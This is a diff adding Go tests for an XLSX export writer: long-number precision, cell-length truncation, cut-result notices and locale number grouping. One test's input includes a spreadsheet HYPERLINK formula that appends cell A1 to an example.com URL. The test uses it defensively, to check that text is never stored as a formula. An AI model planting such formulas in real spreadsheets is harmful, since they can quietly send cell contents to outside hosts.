@@ -6,6 +6,7 @@ import (
 	"errors"
 	"math"
 	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/xuri/excelize/v2"
@@ -257,5 +258,176 @@ func TestWriteXLSX_StopsWhenContextIsCanceled(t *testing.T) {
 	}
 	if buf.Len() != 0 {
 		t.Errorf("wrote %d bytes after cancel", buf.Len())
+	}
+}
+
+func TestWriteXLSX_KeepsEveryDigitOfNumbersAFloatCannotHold(t *testing.T) {
+	t.Parallel()
+	fields := []writer.Field{
+		{Name: "n", Label: "Valor", Kind: writer.KindNumber, Decimals: -1},
+		{Name: "p", Label: "NS (%)", Kind: writer.KindPercent, Decimals: 2},
+	}
+	rows := writertest.New([]string{"n", "p"},
+		// 18 significant digits: a float64 holds 9876543210987654 (issue 13).
+		[]any{"9876543210987654.32", "12345678901234567.891"},
+		// 17 digits, but exactly the double a float result is: stays a number,
+		// written like Excel keeps it, to 15 significant digits (0.3).
+		[]any{"0.30000000000000004", "50"},
+		// 15 digits: a number.
+		[]any{"123456789012345", "99.5"},
+	)
+	for _, tt := range []struct {
+		lang             string
+		wantN, wantP     string
+		wantSmall        string
+		wantSmallPercent string
+		wantNote         string
+	}{
+		// The percent is rounded to 2 places: 12345678901234567.891 → …567.89.
+		{"pt-BR", "9876543210987654,32", "12345678901234567,89%", "0.300000000000000", "0.5",
+			"2 números com mais de 15 algarismos significativos estão como texto, para manter todos os dígitos."},
+		{"en", "9876543210987654.32", "12345678901234567.89%", "0.300000000000000", "0.5",
+			"2 numbers with more than 15 significant digits are written as text, to keep every digit."},
+	} {
+		var buf bytes.Buffer
+		st, err := writer.WriteXLSX(context.Background(), &buf, fields, rows, tt.lang, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows = writertest.New([]string{"n", "p"},
+			[]any{"9876543210987654.32", "12345678901234567.891"}, []any{"0.30000000000000004", "50"}, []any{"123456789012345", "99.5"})
+		if st.TextNumbers != 2 || st.CutCells != 0 {
+			t.Errorf("%s: stats %+v, want 2 numbers as text and no cut", tt.lang, st)
+		}
+		f, err := excelize.OpenReader(&buf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		sheet := f.GetSheetName(0)
+		for _, c := range []struct {
+			cell, want string
+			typ        excelize.CellType
+		}{
+			{"A2", tt.wantN, excelize.CellTypeInlineString},
+			{"B2", tt.wantP, excelize.CellTypeInlineString},
+			{"A3", tt.wantSmall, excelize.CellTypeUnset},
+			{"A4", "123456789012345", excelize.CellTypeUnset},
+		} {
+			got, _ := f.GetCellValue(sheet, c.cell, excelize.Options{RawCellValue: true})
+			typ, _ := f.GetCellType(sheet, c.cell)
+			if got != c.want || typ != c.typ {
+				t.Errorf("%s: %s = %q (type %v), want %q (type %v)", tt.lang, c.cell, got, typ, c.want, c.typ)
+			}
+		}
+		// Header, 3 rows, an empty row, then the note in row 6.
+		if got, _ := f.GetCellValue(sheet, "A6"); got != tt.wantNote {
+			t.Errorf("%s: note %q, want %q", tt.lang, got, tt.wantNote)
+		}
+		if got, _ := f.GetCellValue(sheet, "B3", excelize.Options{RawCellValue: true}); got != tt.wantSmallPercent {
+			t.Errorf("%s: B3 = %q, want %q (50 %% as a fraction)", tt.lang, got, tt.wantSmallPercent)
+		}
+		f.Close()
+	}
+}
+
+func TestWriteXLSX_CutsTextAtTheCellLimitAndCountsIt(t *testing.T) {
+	t.Parallel()
+	long := strings.Repeat("a", 40000)
+	fields := []writer.Field{{Name: "s", Label: "Texto", Kind: writer.KindString, Decimals: -1}}
+	var buf bytes.Buffer
+	st, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, []any{long}, []any{"curto"}), "pt-BR", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.CutCells != 1 {
+		t.Errorf("CutCells = %d, want 1 (40,000 characters > 32,767)", st.CutCells)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if got, _ := f.GetCellValue("Relatório", "A2"); len(got) != 32767 {
+		t.Errorf("A2 has %d characters, want 32,767", len(got))
+	}
+	// Header, 2 rows, an empty row, then the note in row 5.
+	if got, _ := f.GetCellValue("Relatório", "A5"); got != "1 texto foi cortado em 32.767 caracteres, o máximo de uma célula do Excel; o download em CSV o traz inteiro." {
+		t.Errorf("note A5 = %q", got)
+	}
+}
+
+func TestWriteXLSX_WritesTextInTheTextFormatNeverAsFormula(t *testing.T) {
+	t.Parallel()
+	fields := []writer.Field{{Name: "s", Label: "Nome", Kind: writer.KindString, Decimals: -1}}
+	in := []string{"=HYPERLINK(\"http://example.com/x?\"&A1,\"Clique\")", "+5511900000002", "011900000007", "@SUM(1+1)"}
+	var rs [][]any
+	for _, s := range in {
+		rs = append(rs, []any{s})
+	}
+	var buf bytes.Buffer
+	if _, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, rs...), "en", nil); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for i, want := range in {
+		cell := "A" + strconv.Itoa(i+2)
+		formula, _ := f.GetCellFormula("Report", cell)
+		got, _ := f.GetCellValue("Report", cell)
+		style, _ := f.GetCellStyle("Report", cell)
+		s, _ := f.GetStyle(style)
+		if formula != "" || got != want || s == nil || s.NumFmt != 49 {
+			t.Errorf("%s: formula %q, value %q, style %+v; want no formula, %q, number format 49 (@)", cell, formula, got, s, want)
+		}
+	}
+}
+
+func TestWriteXLSX_MarksACutResultBelowTheData(t *testing.T) {
+	t.Parallel()
+	fields := []writer.Field{{Name: "s", Label: "Nome", Kind: writer.KindString, Decimals: -1}}
+	for _, tt := range []struct {
+		lang, sheet, want string
+	}{
+		{"pt-BR", "Relatório", "Resultado cortado no limite de 2 linhas do relatório: há mais dados. Reduza o período ou os filtros para obter tudo."},
+		{"en", "Report", "Result cut at the report's limit of 2 rows: there is more data. Narrow the period or the filters to get all of it."},
+	} {
+		var buf bytes.Buffer
+		rows := writertest.New([]string{"s"}, []any{"Ana"}, []any{"Bia"}).Cut()
+		if _, err := writer.WriteXLSX(context.Background(), &buf, fields, rows, tt.lang, nil); err != nil {
+			t.Fatal(err)
+		}
+		f, err := excelize.OpenReader(&buf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		// Header in row 1, data in rows 2-3, row 4 empty, the note in row 5.
+		got, _ := f.GetRows(tt.sheet)
+		if len(got) != 5 || len(got[3]) != 0 || len(got[4]) != 1 || got[4][0] != tt.want {
+			t.Errorf("%s: rows %q, want the note %q in row 5", tt.lang, got, tt.want)
+		}
+		f.Close()
+	}
+	// Not cut: no note.
+	var buf bytes.Buffer
+	if _, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, []any{"Ana"}), "pt-BR", nil); err != nil {
+		t.Fatal(err)
+	}
+	f, _ := excelize.OpenReader(&buf)
+	defer f.Close()
+	if got, _ := f.GetRows("Relatório"); len(got) != 2 {
+		t.Errorf("an uncut result has rows %q, want header and one row", got)
+	}
+}
+
+func TestCutNotice_GroupsThousandsByLanguage(t *testing.T) {
+	t.Parallel()
+	if got := writer.CutNotice(10000, "pt-BR"); !strings.Contains(got, "limite de 10.000 linhas") {
+		t.Errorf("pt-BR: %q", got)
+	}
+	if got := writer.CutNotice(1234567, "en"); !strings.Contains(got, "limit of 1,234,567 rows") {
+		t.Errorf("en: %q", got)
 	}
 }
